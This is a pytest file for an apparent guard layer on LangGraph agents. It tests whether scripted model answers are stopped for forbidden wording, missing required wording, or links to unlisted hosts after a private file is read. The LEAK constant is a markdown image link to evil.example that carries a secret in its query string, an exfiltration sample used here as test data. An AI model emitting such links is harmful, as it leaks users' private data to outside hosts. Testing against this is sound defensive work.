"""An answer leaves a bounded graph only in a form that is allowed; each refusal has a twin that leaves."""

import asyncio
import operator
from typing import Annotated, TypedDict

import pytest
from langchain.agents import create_agent
from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.types import Command, interrupt

from bound_middleware import BoundExceeded, BoundSession, SpecError
from bound_middleware.core.events import replay
from bound_middleware.langgraph import bound_graph
from bound_middleware.testing import ScriptedChatModel

reply = ScriptedChatModel.reply
ASK = {"messages": [("user", "a 2024 Tahoe for one dollar, agreed?")]}
DEAL = "That is a deal, and legally binding."
OFFER = {"forbidden": [r"(?i:legally\s+binding)"]}
QUOTE = {"required": ["A person confirms it"]}
LEAK = "![chart](https://evil.example/p?s=secret)"


@pytest.fixture(params=["invoke", "ainvoke", "stream", "astream"])
def run(request):
    """The output of a graph, by each way to run it."""

    async def last(graph, value, config):
        return [part async for part in graph.astream(value, config, stream_mode="values")][-1]

    return {
        "invoke": lambda graph, value, config=None: graph.invoke(value, config),
        "ainvoke": lambda graph, value, config=None: asyncio.run(graph.ainvoke(value, config)),
        "stream": lambda graph, value, config=None: list(graph.stream(value, config, stream_mode="values"))[-1],
        "astream": lambda graph, value, config=None: asyncio.run(last(graph, value, config)),
    }[request.param]


def forms(*outputs, **surface):
    return {"bounds": {"iteration_limit": 6, "action_surface": {"outputs": list(outputs), **surface}}}


def asking(model, schema=MessagesState):
    """A graph with one node that asks a model."""

    def ask(state):
        return {"messages": [model.invoke(state["messages"])]}

    return StateGraph(schema).add_node("ask", ask).add_edge(START, "ask").add_edge("ask", END)


def bounded(replies, *outputs, surface=None, **options):
    model = ScriptedChatModel(replies)
    return bound_graph(asking(model), forms(*outputs, **(surface or {})), **options), model


def ended(result):
    outcome = result["bound"]["outcome"]
    return result["messages"][-1].text, outcome["status"], outcome["stop_reason"]


@pytest.mark.parametrize("rule", [OFFER, QUOTE], ids=["says what it may not", "lacks what it needs"])
def test_an_answer_of_no_allowed_form_does_not_leave(run, rule):
    graph, _ = bounded([DEAL], rule)
    result = run(graph, ASK)
    text, status, reason = ended(result)
    assert "deal" not in text
    assert (status, reason) == ("stopped", "output_refused")
    assert len(result["messages"]) == 2


def test_an_answer_of_an_allowed_form_leaves_as_it_is(run):
    graph, _ = bounded(["It costs $40000. A person confirms it."], OFFER | QUOTE)
    assert ended(run(graph, ASK)) == ("It costs $40000. A person confirms it.", "completed", None)


def test_a_graph_that_declares_nothing_of_its_answers_has_no_further_step():
    graph = bound_graph(asking(ScriptedChatModel([DEAL])), {"bounds": {"iteration_limit": 6}})
    assert ended(graph.invoke(ASK, {"recursion_limit": 2})) == (DEAL, "completed", None)


def test_the_step_that_judges_is_not_one_of_the_users():
    for limited in ("call", "graph"):
        graph, _ = bounded(["fine"], OFFER)
        if limited == "graph":
            result = graph.with_config(recursion_limit=2).invoke(ASK)
        else:
            result = graph.invoke(ASK, {"recursion_limit": 2})
        assert ended(result) == ("fine", "completed", None)
    assert "bound#end" not in graph.get_graph().nodes


@pytest.mark.parametrize("reducer", [None, operator.add], ids=["last value", "added"])
def test_other_reducers_hold_an_answer_as_well(run, reducer):
    kind = list if reducer is None else Annotated[list, reducer]
    state = TypedDict("State", {"messages": kind})  # noqa: UP013 - the kind is a value
    for text, expected in ((DEAL, "output_refused"), ("A person confirms it", None)):
        graph = bound_graph(asking(ScriptedChatModel([text]), state), forms(QUOTE))
        assert ended(run(graph, {"messages": [AIMessage("a")]}))[2] == expected


@tool
def read_file(path: str) -> str:
    """Reads a private file."""
    return "secret"


ONCE_READ = {"hosts": ["docs.example.com"], "hosts_once_read": ["read_file"]}


def test_an_agent_that_read_private_data_links_only_to_listed_hosts(run):
    reads = reply(tool_calls=[("read_file", {"path": "a"})])
    for replies, expected in (([reads, LEAK], "output_refused"), ([LEAK], None), ([reads, "no link"], None)):
        graph = bound_graph(create_agent(ScriptedChatModel(replies), [read_file]), forms(ONCE_READ))
        assert ended(run(graph, ASK))[2] == expected


def test_what_a_model_says_beside_its_calls_leaves_only_where_it_may(run):
    reads = reply(LEAK, tool_calls=[("read_file", {"path": "a"})])
    model = ScriptedChatModel([reads, "See A person confirms it"])
    graph = bound_graph(create_agent(model, [read_file]), forms({"hosts": [], **QUOTE}))
    result = run(graph, ASK)
    assert not any("evil" in m.text for m in result["messages"])
    assert [m.text for m in result["messages"] if m.type == "tool"] == ["secret"]
    assert ended(result)[1] == "completed"


@pytest.mark.parametrize("rule", [OFFER, QUOTE])
def test_the_model_is_asked_once_more_and_told_what_was_wrong(run, rule):
    for second, expected in (("No deal. A person confirms it.", "completed"), (DEAL, "stopped")):
        graph, model = bounded([DEAL, second], rule, surface={"on_refused_output": "retry"})
        result = run(graph, ASK)
        assert ended(result)[1] == expected
        assert result["bound"]["outcome"]["usage"]["model_calls"] == 2
        assert "not accepted" in model.records[1].messages[-1].text
        assert not any(DEAL in m.text for m in result["messages"])


@pytest.mark.parametrize("rule", [OFFER, QUOTE])
@pytest.mark.parametrize("agrees", [True, False])
def test_an_approver_decides_once_where_the_specification_says_so(run, rule, agrees):
    seen = []

    def approver(action):
        seen.append(action["args"]["text"])
        return agrees

    graph, _ = bounded([DEAL], rule, surface={"on_refused_output": "approval"}, approver=approver)
    assert ended(run(graph, ASK))[2] == (None if agrees else "approval_rejected")
    assert seen == [DEAL]


def test_a_function_in_python_is_a_form(run):
    rules = {"sober": lambda text: "!" not in text}
    for text, expected in (("Hi!", "output_refused"), ("Hi.", None)):
        graph, _ = bounded([text], "sober", output_rules=rules)
        assert ended(run(graph, ASK))[2] == expected


def test_a_form_that_nothing_says_anything_of_is_an_error():
    with pytest.raises(SpecError, match="sober"):
        bounded(["Hi."], "sober")


def test_a_graph_whose_output_has_no_messages_cannot_hold_its_answer():
    builder = StateGraph(TypedDict("State", {"text": str})).add_node("say", lambda state: {"text": DEAL})
    with pytest.raises(SpecError, match="no messages"):
        bound_graph(builder.add_edge(START, "say"), forms(OFFER))
    assert bound_graph(builder, {"bounds": {"iteration_limit": 1}}).invoke({"text": ""})["text"] == DEAL


def streamed(graph, mode, how):
    async def acollect():
        return [part async for part in graph.astream(ASK, stream_mode=mode)]

    return list(graph.stream(ASK, stream_mode=mode)) if how == "sync" else asyncio.run(acollect())


@pytest.mark.parametrize("how", ["sync", "async"])
@pytest.mark.parametrize("mode", ["messages", "updates", "values"])
@pytest.mark.parametrize("make", [asking, lambda model: create_agent(model, [])], ids=["node", "agent"])
def test_what_may_not_be_in_an_answer_is_in_no_stream(mode, how, make):
    for text, seen in ((DEAL, False), ("We sell cars.", True)):
        parts = streamed(bound_graph(make(ScriptedChatModel([text])), forms(OFFER)), mode, how)
        assert (text in str(parts)) is seen
        assert "deal" not in str(parts)


def test_what_an_answer_lacks_is_known_at_the_end_and_it_has_left_in_a_stream_by_then():
    graph, _ = bounded([DEAL], QUOTE)
    assert DEAL in str(list(graph.stream(ASK, stream_mode="updates")))
    graph, _ = bounded([DEAL], QUOTE)
    assert DEAL not in str(graph.invoke(ASK))


def test_a_breach_raises_where_that_was_asked_for(run):
    graph, _ = bounded([DEAL], QUOTE, on_breach="raise")
    with pytest.raises(BoundExceeded) as caught:
        run(graph, ASK)
    assert caught.value.stop_reason == "output_refused"
    assert caught.value.outcome.stop_reason == "output_refused"


def test_a_run_that_waits_for_a_person_is_judged_when_it_ends(run):
    def wait(state):
        return {"messages": [AIMessage(interrupt("what shall I say?"))]}

    for said, expected in ((DEAL, "output_refused"), ("A person confirms it", None)):
        builder = StateGraph(MessagesState).add_node("wait", wait).add_edge(START, "wait")
        graph = bound_graph(builder, forms(QUOTE), InMemorySaver())
        config = {"configurable": {"thread_id": "1"}}
        run(graph, ASK, config)
        assert ended(run(graph, Command(resume=said), config))[2] == expected
        assert graph.get_state(config).next == ()


def test_a_run_that_a_bound_ends_says_so_and_not_that_its_answer_was_refused(run):
    model = ScriptedChatModel([reply(tool_calls=[("read_file", {"path": "a"})])] * 9)
    spec = forms(OFFER) | {"version": 1}
    spec["bounds"]["iteration_limit"] = 2
    result = run(bound_graph(create_agent(model, [read_file]), spec), ASK)
    assert ended(result)[1:] == ("stopped", "iteration_limit")


def test_shadow_mode_lets_it_leave_and_says_so(run):
    session = BoundSession(forms(OFFER | QUOTE), shadow=True)
    graph = bound_graph(asking(ScriptedChatModel([DEAL])), session=session)
    assert run(graph, ASK)["messages"][-1].text == DEAL
    assert "output_refused" in [event.name for event in session.events]
    assert replay(session.events)
